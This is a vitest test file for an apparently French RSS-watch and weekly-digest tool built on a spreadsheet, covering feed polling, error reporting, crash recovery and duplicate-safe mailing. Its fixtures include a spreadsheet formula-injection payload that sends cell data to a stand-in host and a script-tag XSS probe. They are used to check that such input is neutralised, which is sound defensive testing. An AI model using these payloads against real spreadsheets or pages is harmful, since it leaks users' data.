import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { aClip, buildBundle, OWNER, openVigie, TUESDAY, type Vigie } from './opened-vigie.ts';

const HOUR = 3_600_000;
/** Monday 30 November 2026, 9:00 in Paris: after the letter's hour. */
const MONDAY = new Date('2026-11-30T08:00:00Z');

/** The hourly reading runs once a day on the way: a week of it adds nothing here. */
const DAILY = { repeats: 'daily' as const };

let items: { guid: string; title: string; date: string }[];
let answer: { status: number; body?: string };
let asked: IncomingMessage[];
let server: Server;
let base: string;
let bundle: Awaited<ReturnType<typeof buildBundle>>;
let vigie: Vigie;

const escaped = (text: string): string => text.replace(/&/g, '&amp;').replace(/</g, '&lt;');
const rss =
  (): string => `<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Actualités d’exemple</title>
<link>https://exemple.fr/</link>${items
    .map(
      ({ guid, title, date }) =>
        `<item><guid isPermaLink="false">${guid}</guid><title>${escaped(title)}</title><link>https://exemple.fr/${guid}</link><pubDate>${date}</pubDate></item>`,
    )
    .join('')}</channel></rss>`;

beforeAll(async () => {
  server = createServer((request, response) => {
    asked.push(request);
    if (request.headers['if-none-match'] === '"v1"' && answer.status === 200) response.writeHead(304).end();
    else
      response
        .writeHead(answer.status, { 'content-type': 'application/rss+xml', etag: '"v1"' })
        .end(answer.body ?? rss());
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  bundle = await buildBundle();
});
afterAll(() => {
  server.close();
  bundle.remove();
});
beforeEach(async () => {
  asked = [];
  answer = { status: 200 };
  items = [
    { guid: 'a', title: 'Un', date: 'Mon, 05 Jan 2015 08:00:00 +0000' },
    { guid: 'b', title: '=IMPORTXML("https://x.test/?"&A1)', date: 'Tue, 24 Nov 2026 08:00:00 +0000' },
    { guid: 'c', title: 'Trois <b>gras</b>', date: '' },
  ];
  vigie = await openVigie(bundle.folder, { allowPrivate: true });
  await vigie.run('peopleAppend', ['Flux', { Adresse: `${base}/feed` }]);
});
afterEach(() => vigie.close());

describe('feeds', () => {
  test('a feed typed by hand is polled by the trigger; its items land in À trier, first seen today', async () => {
    const runs = await vigie.host.clock.advanceBy(HOUR + 60_000);
    expect(runs.map((run) => run.result?.error ?? null).filter(Boolean)).toEqual([]);
    expect(vigie.rows('À trier').map((row) => row.Titre)).toEqual([
      'Un',
      '=IMPORTXML("https://x.test/?"&A1)',
      'Trois gras',
    ]);
    expect(vigie.rows('À trier')[0]).toMatchObject({
      Flux: 'Actualités d’exemple',
      'Publié le': '05/01/2015',
      'Vu le': expect.stringMatching(/^24\/11\/2026/),
      Statut: 'à trier',
    });
    expect(vigie.host.workbook.read('À trier').formulas.flat().join('')).toBe('');
    expect(vigie.rows('Flux')).toMatchObject([{ Flux: 'Actualités d’exemple', État: 'suivi', Santé: 'Tout va bien.' }]);
    expect(vigie.rows('Vus')).toHaveLength(3);
  });

  test('read again: a conditional request, nothing twice; a new item and an edited title', async () => {
    expect(await vigie.run('pollFeedsNow')).toMatchObject({ feeds: 1, items: 3, failing: 0, left: 0 });
    expect(await vigie.run('pollFeedsNow')).toMatchObject({ feeds: 1, items: 0 });
    expect(asked.at(-1)?.headers['if-none-match']).toBe('"v1"');
    items = [
      { guid: 'd', title: 'Quatre', date: 'Tue, 01 Jan 2013 08:00:00 +0000' },
      { ...(items[0] as (typeof items)[0]), title: 'Un, corrigé' },
    ];
    await vigie.run('peopleType', ['Flux', 2, 'ETag', '']);
    expect(await vigie.run('pollFeedsNow')).toMatchObject({ items: 1 });
    expect(vigie.rows('À trier').map((row) => row.Titre)).toEqual([
      'Un',
      '=IMPORTXML("https://x.test/?"&A1)',
      'Trois gras',
      'Quatre',
    ]);
  });

  test('a failing feed is shown in words and asked less and less often', async () => {
    answer = { status: 500 };
    await vigie.run('pollFeedsNow');
    expect(vigie.rows('Flux')[0]?.Santé).toMatch(/^Le site est en panne depuis le 24\/11\/2026\. Vigie réessaiera\.$/);
    for (let hour = 0; hour < 24; hour += 1) await vigie.host.clock.advanceBy(HOUR);
    expect(asked.length).toBeGreaterThan(3);
    expect(asked.length).toBeLessThan(8);
    answer = { status: 200, body: '<html><body>Accueil</body></html>' };
    await vigie.run('pollFeedsNow');
    expect(vigie.rows('Flux')[0]?.Santé).toMatch(/page web au lieu d’un flux/);
    answer = { status: 200 };
    expect(await vigie.run('pollFeedsNow')).toMatchObject({ items: 3, failing: 0 });
    expect(vigie.rows('Flux')[0]?.Santé).toBe('Tout va bien.');
  });

  test('an address that nobody answers does not keep the others from being read', async () => {
    await vigie.run('peopleAppend', ['Flux', { Adresse: 'http://127.0.0.1:9/feed' }]);
    expect(await vigie.run('pollFeedsNow')).toMatchObject({ feeds: 2, items: 3, failing: 1 });
    expect(vigie.rows('Flux')[1]?.Santé).toMatch(/ne répond pas/);
  });
});

describe('a reading that is cut', () => {
  test.each([1, 2, 3, 4].flatMap((when) => (['before', 'after'] as const).map((at) => [when, at] as const)))(
    'at write %i, %s it: the next one brings each item once',
    async (when, at) => {
      vigie.host.faults.add({ service: 'SpreadsheetApp', method: 'Range.setValues', when, at, do: 'kill' });
      const cut = await vigie.host.run('pollFeedsNow');
      vigie.host.faults.clear();
      expect(cut.ok).toBe(false);
      await vigie.run('pollFeedsNow');
      await vigie.run('pollFeedsNow');
      expect(vigie.rows('À trier').map((row) => row.Titre)).toEqual([
        'Un',
        '=IMPORTXML("https://x.test/?"&A1)',
        'Trois gras',
      ]);
      expect(vigie.rows('Vus')).toHaveLength(3);
      expect(vigie.rows('Flux')).toHaveLength(1);
    },
  );
});

describe('the letter', () => {
  test('on Monday, one to each member, with exactly the week’s clips, observations and articles', async () => {
    const { token } = await vigie.pairedMember('Marie');
    await vigie.pairedMember('Luc');
    const line = vigie.rows('Équipe').findIndex((row) => row.Nom === 'Luc') + 2;
    await vigie.run('peopleType', ['Équipe', line, 'Reçoit la lettre', 'non']);
    await vigie.run('pollFeedsNow');
    await vigie.saveClips(
      token,
      aClip({ title: '=IMPORTXML("https://x.test/?"&A1)' }),
      aClip({ title: '<script>alert(1)</script>' }),
    );
    await vigie.host.clock.advanceTo(MONDAY, DAILY);
    const letters = await vigie.host.outbox();
    expect(letters.map((letter) => [letter.to].flat().join()).sort()).toEqual(['marie@example.org', OWNER]);
    for (const { html, text, subject } of letters) {
      expect(subject).toContain('Veille');
      for (const title of ['Un', 'Trois gras', '=IMPORTXML("https://x.test/?"&A1)', '<script>alert(1)</script>']) {
        expect(text).toContain(title);
      }
      expect(html).not.toContain('<script');
      expect(html).toContain('&lt;script&gt;');
    }
    expect(vigie.rows('Envois').map((row) => [row.Semaine, row.État])).toEqual([
      ['2026-W48', 'envoyé'],
      ['2026-W48', 'envoyé'],
    ]);
  });

  test('a trigger that runs twice, a menu that is clicked again: nobody gets it twice', async () => {
    const { token } = await vigie.pairedMember('Marie');
    await vigie.saveClips(token, aClip());
    await vigie.host.clock.advanceTo(MONDAY, { ...DAILY, mishap: () => 'twice' });
    expect(await vigie.host.outbox()).toHaveLength(2);
    await Promise.all([vigie.run('sendDigestNow'), vigie.run('sendDigestNow'), vigie.run('sendWeeklyDigest')]);
    expect(await vigie.host.outbox()).toHaveLength(2);
  });

  test('cut between the mail and its note: the line stays « réservé », is shown, and is not sent again', async () => {
    const { token } = await vigie.pairedMember('Marie');
    await vigie.saveClips(token, aClip());
    vigie.host.faults.add({ service: 'MailApp', method: 'sendEmail', at: 'after', when: 1, do: 'kill' });
    await vigie.host.clock.advanceTo(MONDAY, DAILY);
    vigie.host.faults.clear();
    const sent = (await vigie.host.outbox()).length;
    await vigie.run('sendDigestNow');
    expect(await vigie.host.outbox()).toHaveLength(sent);
    const state = await vigie.run<{ lastLetter: { reserved: number } }>('getState');
    expect(state.lastLetter.reserved).toBe(2);
  });

  test('refused by the mail service: said, and sent when a person asks again', async () => {
    const { token } = await vigie.pairedMember('Marie');
    await vigie.saveClips(token, aClip());
    vigie.host.faults.add({
      service: 'MailApp',
      method: 'sendEmail',
      do: { throw: 'Service invoked too many times for one day: email.' },
    });
    await vigie.host.clock.advanceTo(MONDAY, DAILY);
    vigie.host.faults.clear();
    expect(vigie.rows('Envois').map((row) => row.État)).toEqual(['non envoyé', 'non envoyé']);
    expect(await vigie.run('sendDigestNow')).toMatchObject({ sent: 2, failed: 0 });
    expect(vigie.rows('Envois').map((row) => row.État)).toEqual(['envoyé', 'envoyé']);
  });

  test('a quiet week sends nothing and says so; the third one sends a word', async () => {
    await vigie.run('peopleDeleteRow', ['Flux', 2]);
    await vigie.host.clock.advanceTo(MONDAY, DAILY);
    expect(await vigie.host.outbox()).toEqual([]);
    expect(vigie.rows('Envois').map((row) => row.État)).toEqual(['semaine calme']);
    await vigie.host.clock.advanceBy(7 * 24 * HOUR, DAILY);
    expect(await vigie.host.outbox()).toEqual([]);
    await vigie.host.clock.advanceBy(7 * 24 * HOUR, DAILY);
    expect(await vigie.host.outbox()).toHaveLength(1);
  });

  test('the preview shows the present week and sends nothing', async () => {
    const { token } = await vigie.pairedMember('Marie');
    await vigie.saveClips(token, aClip({ title: 'Celle-ci' }));
    const preview = await vigie.run<{ html: string; subject: string; week: string }>('readDigestPreview');
    expect(preview.week).toBe('2026-W48');
    expect(preview.html).toContain('Celle-ci');
    expect(await vigie.host.outbox()).toEqual([]);
    expect(TUESDAY.getTime()).toBeLessThan(vigie.host.clock.now() + 1);
  });
});
